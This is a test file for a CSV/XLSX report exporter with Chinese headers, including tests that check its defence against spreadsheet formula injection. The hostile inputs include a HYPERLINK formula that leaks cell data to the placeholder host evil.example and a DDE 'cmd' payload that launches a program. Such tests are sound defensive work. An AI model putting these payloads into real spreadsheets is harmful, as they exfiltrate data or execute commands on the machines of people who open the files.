import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { attachment, toCsv, writeXlsx, type Column } from '../../../src/reports/tabular.js';

const columns: Column<{ name: string; mu: number }>[] = [
  { header: '县名', value: (r) => r.name },
  { header: '面积（亩）', value: (r) => r.mu, numFmt: '0.0000' },
];
const rows = [{ name: '玉山县', mu: 499.99 }, { name: '含,逗号"引号', mu: 500 }];

describe('tabular reports', () => {
  it('writes CSV with a BOM, Chinese headers and RFC 4180 quoting', async () => {
    const csv = await toCsv(columns, rows);
    expect(csv.startsWith('\uFEFF县名,面积（亩）\r\n')).toBe(true);
    expect(csv).toContain('"含,逗号""引号",500');
  });
  it('writes an XLSX that a spreadsheet library reads back with the Chinese headers', async () => {
    const pass = new PassThrough();
    const chunks: Buffer[] = [];
    pass.on('data', (c: Buffer) => chunks.push(c));
    await writeXlsx(pass, [{ name: '台账', columns, rows }]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.concat(chunks) as unknown as ExcelJS.Buffer);
    const ws = wb.getWorksheet('台账')!;
    expect(ws.getRow(1).values).toEqual([undefined, '县名', '面积（亩）']);
    expect(ws.getRow(2).values).toEqual([undefined, '玉山县', 499.99]);
  });
  it('names attachments in UTF-8', () => {
    expect(attachment('玉山县台账.xlsx')).toBe(`attachment; filename="_____.xlsx"; filename*=UTF-8''%E7%8E%89%E5%B1%B1%E5%8E%BF%E5%8F%B0%E8%B4%A6.xlsx`);
  });
});

/** The XML of every worksheet of an .xlsx (to see exactly how cells were written). */
async function sheetXml(xlsx: Buffer): Promise<string> {
  const yauzl = (await import('yauzl')).default;
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(xlsx, { lazyEntries: true }, (err, zip) => {
      if (err || !zip) return reject(err ?? new Error('yauzl opened no zip file'));
      let xml = '';
      zip.on('entry', (e: import('yauzl').Entry) => {
        if (!/^xl\/worksheets\/.*\.xml$/.test(e.fileName)) return zip.readEntry();
        zip.openReadStream(e, (e2, s) => {
          if (e2 || !s) return reject(e2 ?? new Error(`yauzl opened no stream for ${e.fileName}`));
          s.on('data', (c: Buffer) => (xml += c.toString()));
          s.on('end', () => zip.readEntry());
        });
      });
      zip.on('end', () => resolve(xml));
      zip.readEntry();
    });
  });
}

describe('formula injection (issue 8 item 15)', () => {
  type R = { text: string | null; amount: number | string };
  const hostile = ['=1+2', '+1+2', '-1+2', '@SUM(A1)', '\t=1+2', '\r=1+2', '=HYPERLINK("http://evil.example/?"&A1,"点击")', '=cmd|\' /C calc\'!A0'];
  const cols: Column<R>[] = [
    { header: '项目名称', value: (r) => r.text },
    { header: '面积（亩）', value: (r) => r.amount, numFmt: '0.0000' },
  ];
  const rows: R[] = [
    ...hostile.map((text) => ({ text, amount: 1 })),
    { text: '核查扣减', amount: -12.5 }, // a genuine negative number
    { text: '-3.000001', amount: '-3.000001' }, // an exact amount kept as text
    { text: '正常-名称=无害', amount: 0 },
  ];

  it('CSV: text beginning with = + - @ tab or CR is prefixed with a quote; numbers, numeric text and other text are untouched', async () => {
    const csv = await toCsv(cols, rows);
    const lines = csv.replace('\uFEFF', '').split('\r\n');
    expect(lines[1]).toBe("'=1+2,1");
    expect(lines[2]).toBe("'+1+2,1");
    expect(lines[3]).toBe("'-1+2,1");
    expect(lines[4]).toBe("'@SUM(A1),1");
    expect(lines[5]).toBe("'\t=1+2,1");
    expect(csv).toContain(`"'\r=1+2",1`);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")",1`);
    expect(csv).toContain('核查扣减,-12.5\r\n');
    expect(csv).toContain('-3.000001,-3.000001\r\n');
    expect(csv).toContain('正常-名称=无害,0\r\n');
    // No cell of the file starts with a formula character.
    for (const line of lines.slice(1)) expect(line).not.toMatch(/^"?[=+@]/);
  });

  it('XLSX: such text is an inline string cell, never a formula; negative amounts stay numbers', async () => {
    const pass = new PassThrough();
    const chunks: Buffer[] = [];
    pass.on('data', (c: Buffer) => chunks.push(c));
    await writeXlsx(pass, [{ name: '台账', columns: cols, rows }]);
    const buf = Buffer.concat(chunks);
    const xml = await sheetXml(buf);
    expect(xml).not.toMatch(/<f[ >]/); // no formula element anywhere
    // …and each is an inline text cell, not t="str" (the type OOXML gives a formula's cached result).
    expect(xml.match(/t="inlineStr"/g)?.length).toBe(hostile.length);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ExcelJS.Buffer);
    const ws = wb.getWorksheet('台账')!;
    hostile.forEach((text, i) => {
      const cell = ws.getRow(i + 2).getCell(1);
      expect(cell.formula).toBeUndefined();
      expect([ExcelJS.ValueType.String, ExcelJS.ValueType.RichText]).toContain(cell.type);
      expect(cell.text).toBe(text.replace(/\r/g, '\n')); // XML reads a bare CR as LF
    });
    const negative = ws.getRow(hostile.length + 2).getCell(2);
    expect(negative.type).toBe(ExcelJS.ValueType.Number);
    expect(negative.value).toBe(-12.5);
    expect(ws.getRow(hostile.length + 3).getCell(2).value).toBe('-3.000001');
  });
});
